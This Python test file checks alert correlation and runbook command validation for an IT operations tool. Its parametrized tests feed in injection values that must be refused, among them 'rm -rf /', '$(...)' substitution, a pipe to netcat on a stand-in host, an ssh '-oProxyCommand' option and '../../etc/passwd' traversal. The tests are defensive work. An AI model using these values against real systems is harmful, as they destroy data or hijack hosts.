"""Event rules and correlation (pure): fingerprints, filters, significance, responses, and how
a storm, a duplicate, a resolution and a new firing change an alert."""

from datetime import UTC, datetime, timedelta

import pytest
from pydantic import ValidationError

from serviceops.domain.event import (
    ActionKind,
    Alert,
    AlertState,
    Correlator,
    EventIn,
    EventPolicy,
    EventStatus,
    Match,
    NoticeKind,
    Response,
    ResponseRule,
    Runbook,
    RunbookRefused,
    Severity,
    Significance,
    SignificanceRule,
)
from serviceops.domain.event.incidents import draft_for

T0 = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)


def event(**fields: object) -> EventIn:
    base: dict[str, object] = {
        "source": "prometheus",
        "service": "mail",
        "check": "HighLatency",
        "severity": "critical",
        "summary": "p99 latency over 2 s",
    }
    return EventIn.model_validate(base | fields)


def test_fingerprint_is_the_dedup_key_else_source_resource_and_check() -> None:
    assert event(dedup_key="am:abc").fingerprint == "am:abc"
    same = event(summary="another text", severity="warning").fingerprint
    assert event().fingerprint == same
    assert event(ci="mx-1").fingerprint != event().fingerprint
    assert event(check="DiskFull").fingerprint != event().fingerprint
    assert event(source="nagios").fingerprint != event().fingerprint


def test_an_event_names_a_service_or_a_ci_and_an_aware_time() -> None:
    with pytest.raises(ValidationError, match="service or a ci"):
        event(service=None)
    with pytest.raises(ValidationError, match="time zone"):
        event(occurred_at="2026-11-26T09:00:00")
    assert event(service=None, ci="db-1").resource == "db-1"


def test_significance_by_rule_first_else_by_severity() -> None:
    policy = EventPolicy(
        significance_rules=[SignificanceRule(source="nagios", significance="informational")]
    )
    assert policy.significance(event()) is Significance.EXCEPTION
    assert policy.significance(event(severity="error")) is Significance.EXCEPTION
    assert policy.significance(event(severity="warning")) is Significance.WARNING
    assert policy.significance(event(severity="info")) is Significance.INFORMATIONAL
    assert policy.significance(event(source="nagios")) is Significance.INFORMATIONAL


def test_response_by_rule_first_else_by_significance() -> None:
    policy = EventPolicy(
        responses=[ResponseRule(check="Disk*", significances=["exception"], response="notify")]
    )
    assert policy.response(event(), Significance.EXCEPTION) == (Response.INCIDENT, None)
    assert policy.response(event(check="DiskFull"), Significance.EXCEPTION)[0] is Response.NOTIFY
    assert policy.response(event(), Significance.WARNING)[0] is Response.NOTIFY
    assert policy.response(event(), Significance.INFORMATIONAL)[0] is Response.LOG


def test_runbooks_run_only_allow_listed_commands_as_argument_lists() -> None:
    with pytest.raises(ValidationError, match="not an allowed command"):
        EventPolicy(runbooks={"restart": Runbook(argv=["/bin/sh", "-c", "reboot"])})
    with pytest.raises(ValidationError, match="unknown runbook"):
        EventPolicy(responses=[ResponseRule(response="remediate", runbook="nope")])
    policy = EventPolicy(
        allowed_commands=["/usr/bin/systemctl"],
        runbooks={"restart": Runbook(argv=["/usr/bin/systemctl", "restart", "{service}"])},
    )
    argv = policy.runbook_argv("restart", {"service": "mail.example", "ci": "", "check": ""})
    assert argv == ["/usr/bin/systemctl", "restart", "mail.example"]


SSH = EventPolicy(
    allowed_commands=["/usr/bin/ssh"],
    runbooks={
        "restart": Runbook(argv=["/usr/bin/ssh", "{ci}", "systemctl", "restart", "{service}"]),
        "probe": Runbook(argv=["/usr/bin/ssh", "ops@{ci}", "check", "--name={check}"]),
    },
)


def filled(**given: str) -> dict[str, str]:
    return {"service": "mail", "ci": "mx-1", "check": "QueueStuck"} | given


@pytest.mark.parametrize(
    "ci", ["-oProxyCommand=touch /tmp/x", "-oProxyCommand=id", "--help", "-", "-v"]
)
def test_a_value_that_starts_with_a_dash_refuses_the_runbook(ci: str) -> None:
    """ssh (like most commands) takes an argument that starts with '-' as an option."""
    with pytest.raises(RunbookRefused, match="ci") as refused:
        SSH.runbook_argv("restart", filled(ci=ci))
    assert repr(ci) in str(refused.value)


@pytest.mark.parametrize(
    "service",
    [
        "mail; rm -rf /",
        "mail server",
        "$(touch /tmp/x)",
        "`id`",
        "mail|nc evil 1",
        "mail&",
        "mail\nid",
        "mail\n",
        "mail\x00",
        "'mail'",
        "mail>out",
        "mx-1/../../etc/passwd",
        "mäil",
        "",
    ],
)
def test_a_value_with_spaces_or_shell_characters_refuses_the_runbook(service: str) -> None:
    with pytest.raises(RunbookRefused, match="service"):
        SSH.runbook_argv("restart", filled(service=service))


def test_plain_names_fill_the_runbook_one_argument_each() -> None:
    argv = SSH.runbook_argv("restart", filled(ci="db1.example.com:22", service="erp/api_2"))
    assert argv == ["/usr/bin/ssh", "db1.example.com:22", "systemctl", "restart", "erp/api_2"]
    argv = SSH.runbook_argv("probe", filled(ci="mx-1", check="http:mail-http"))
    assert argv == ["/usr/bin/ssh", "ops@mx-1", "check", "--name=http:mail-http"]


def test_a_known_catalogue_name_fills_the_runbook_though_it_looks_odd() -> None:
    """`db..old` is a legal CMDB item name, but '..' is refused in names the alert brings
    (they may end up in a path): the catalogue vouches for its own names."""
    odd = filled(ci="db..old")
    with pytest.raises(RunbookRefused):
        SSH.runbook_argv("restart", odd)
    argv = SSH.runbook_argv("restart", odd, known=frozenset({"db..old", "mail"}))
    assert argv[1] == "db..old"


def test_only_the_values_a_runbook_uses_are_vetted() -> None:
    """A runbook that does not name {check} runs whatever text the check has."""
    argv = SSH.runbook_argv("restart", filled(check="Disk usage > 90% on $(host)"))
    assert argv[1:] == ["mx-1", "systemctl", "restart", "mail"]
    with pytest.raises(RunbookRefused, match="check"):
        SSH.runbook_argv("probe", filled(check="Disk usage > 90% on $(host)"))


def decide_all(correlator: Correlator, events: list[EventIn], start: datetime = T0) -> None:
    for i, item in enumerate(events):
        correlator.decide(item, start + timedelta(seconds=i))


def test_a_storm_on_one_service_is_one_alert_one_incident_and_few_messages() -> None:
    correlator = Correlator(EventPolicy(), [])
    storm = [
        event(check=f"Check{i % 30}", severity=["warning", "critical"][i % 2]) for i in range(100)
    ]
    decide_all(correlator, storm)
    decisions = correlator.decisions
    assert len(decisions.alerts) == 1
    alert = decisions.alerts[0]
    assert alert.event_count == 100
    assert sorted(alert.firing) == sorted({e.fingerprint for e in storm})
    assert alert.duplicate_count == 70
    raises = [a for a in decisions.actions if a.kind is ActionKind.RAISE_INCIDENT]
    assert len(raises) == 1
    updates = [a for a in decisions.actions if a.kind is ActionKind.UPDATE_INCIDENT]
    assert len(updates) == 1 and updates[0].count == 28  # 30 conditions: 1 raised, 1 opened
    assert len(decisions.notices) <= 5


def test_duplicates_are_counted_not_acted_on() -> None:
    correlator = Correlator(EventPolicy(), [])
    decide_all(correlator, [event(severity="warning")] * 20)
    alert = correlator.decisions.alerts[0]
    assert (alert.event_count, alert.duplicate_count) == (20, 19)
    assert [v.duplicate for v in correlator.decisions.verdicts] == [False] + [True] * 19
    assert [n.kind for n in correlator.decisions.notices] == [NoticeKind.OPENED]


def test_a_notify_alert_escalates_once_to_an_incident() -> None:
    correlator = Correlator(EventPolicy(), [])
    decide_all(correlator, [event(severity="warning"), event(check="Down"), event(check="X")])
    alert = correlator.decisions.alerts[0]
    assert alert.response is Response.INCIDENT
    assert alert.significance is Significance.EXCEPTION
    kinds = [a.kind for a in correlator.decisions.actions]
    assert kinds == [ActionKind.RAISE_INCIDENT, ActionKind.UPDATE_INCIDENT]
    assert [n.kind for n in correlator.decisions.notices] == [NoticeKind.OPENED]


def test_events_outside_the_window_open_a_new_alert_unless_the_fingerprint_is_known() -> None:
    correlator = Correlator(EventPolicy(correlation_window=timedelta(minutes=5)), [])
    correlator.decide(event(check="A"), T0)
    correlator.decide(event(check="B"), T0 + timedelta(minutes=6))
    correlator.decide(event(check="A"), T0 + timedelta(minutes=20))
    first, second = correlator.decisions.alerts
    assert first.event_count == 2 and second.event_count == 1


def test_filtered_events_are_logged_and_touch_nothing() -> None:
    correlator = Correlator(EventPolicy(filters=[Match(source="heartbeat")]), [])
    verdict = correlator.decide(event(source="heartbeat"), T0)
    assert verdict.dropped and verdict.response is Response.LOG and verdict.alert_key is None
    assert correlator.decisions.alerts == []


def opened_incident_alert() -> Alert:
    return Alert(
        number="ALR-000007",
        key="mail",
        service="mail",
        ci=None,
        title="down",
        significance=Significance.EXCEPTION,
        response=Response.INCIDENT,
        firing=[event().fingerprint],
        fingerprints=[event().fingerprint],
        event_count=1,
        incident_number="INC-000003",
        first_event_at=T0,
        last_event_at=T0,
    )


def test_resolved_event_resolves_the_alert_and_its_incident() -> None:
    correlator = Correlator(EventPolicy(), [opened_incident_alert()])
    correlator.decide(event(status="resolved"), T0 + timedelta(hours=2))
    alert = correlator.decisions.alerts[0]
    assert alert.state is AlertState.RESOLVED and alert.firing == []
    assert [a.kind for a in correlator.decisions.actions] == [ActionKind.RESOLVE_INCIDENT]
    assert [n.kind for n in correlator.decisions.notices] == [NoticeKind.RESOLVED]
    assert [(c.from_state, c.to_state) for c in correlator.decisions.changes] == [
        (AlertState.OPEN, AlertState.RESOLVED)
    ]


def test_auto_resolve_can_be_turned_off() -> None:
    correlator = Correlator(EventPolicy(auto_resolve=False), [opened_incident_alert()])
    correlator.decide(event(status="resolved"), T0)
    assert correlator.decisions.alerts[0].state is AlertState.RESOLVED
    assert correlator.decisions.actions == []


def test_a_resolved_event_for_nothing_firing_is_only_logged() -> None:
    correlator = Correlator(EventPolicy(), [])
    verdict = correlator.decide(event(status=EventStatus.RESOLVED), T0)
    assert verdict.response is Response.LOG and correlator.decisions.alerts == []


def resolved_alert() -> Alert:
    return opened_incident_alert().model_copy(
        update={"state": AlertState.RESOLVED, "firing": [], "resolved_at": T0}
    )


def test_a_new_firing_after_resolution_reopens_by_default() -> None:
    correlator = Correlator(EventPolicy(), [resolved_alert()])
    correlator.decide(event(), T0 + timedelta(days=1))
    alert = correlator.decisions.alerts[0]
    assert alert.number == "ALR-000007" and alert.state is AlertState.OPEN
    assert alert.reopen_count == 1
    assert [a.kind for a in correlator.decisions.actions] == [ActionKind.REOPEN_INCIDENT]


def test_a_new_firing_after_resolution_opens_anew_by_policy() -> None:
    correlator = Correlator(EventPolicy(after_resolution="new"), [resolved_alert()])
    correlator.decide(event(), T0 + timedelta(days=1))
    old, new = correlator.decisions.alerts
    assert old.state is AlertState.CLOSED and new.number is None
    assert new.state is AlertState.OPEN and new.incident_number is None
    assert [a.kind for a in correlator.decisions.actions] == [ActionKind.RAISE_INCIDENT]


def test_remediation_runs_the_rule_s_runbook_and_notifies() -> None:
    policy = EventPolicy(
        allowed_commands=["/bin/true"],
        runbooks={"noop": Runbook(argv=["/bin/true"])},
        responses=[ResponseRule(check="Queue*", response="remediate", runbook="noop")],
    )
    correlator = Correlator(policy, [])
    correlator.decide(event(check="QueueStuck", severity=Severity.WARNING), T0)
    (action,) = correlator.decisions.actions
    assert (action.kind, action.runbook) == (ActionKind.RUN_RUNBOOK, "noop")
    assert len(correlator.decisions.notices) == 1


def test_a_page_rule_raises_an_incident_that_pages_whatever_the_hour() -> None:
    policy = EventPolicy(responses=[ResponseRule(check="Disk*", response="page")])
    correlator = Correlator(policy, [])
    decide_all(correlator, [event(check="DiskFull"), event(check="DiskSlow")])
    (alert,) = correlator.decisions.alerts
    assert alert.response is Response.PAGE
    kinds = [a.kind for a in correlator.decisions.actions]
    assert kinds == [ActionKind.RAISE_INCIDENT, ActionKind.UPDATE_INCIDENT]  # not raised twice
    draft = draft_for(alert, "DiskFull", None, "infrastructure")
    assert draft.page and not draft_for(opened_incident_alert(), "", None, "x").page
    for check in ("DiskFull", "DiskSlow"):
        correlator.decide(event(check=check, status="resolved"), T0 + timedelta(hours=1))
    assert correlator.decisions.actions[-1].kind is ActionKind.RESOLVE_INCIDENT


def test_an_alert_whose_incident_is_raised_climbs_to_page_once_and_pages_it() -> None:
    policy = EventPolicy(responses=[ResponseRule(check="Down", response="page")])
    correlator = Correlator(policy, [opened_incident_alert()])
    decide_all(correlator, [event(check="Down"), event(check="Down", source="blackbox")])
    (alert,) = correlator.decisions.alerts
    assert alert.response is Response.PAGE
    assert [a.kind for a in correlator.decisions.actions] == [
        ActionKind.PAGE_INCIDENT,
        ActionKind.UPDATE_INCIDENT,
    ]
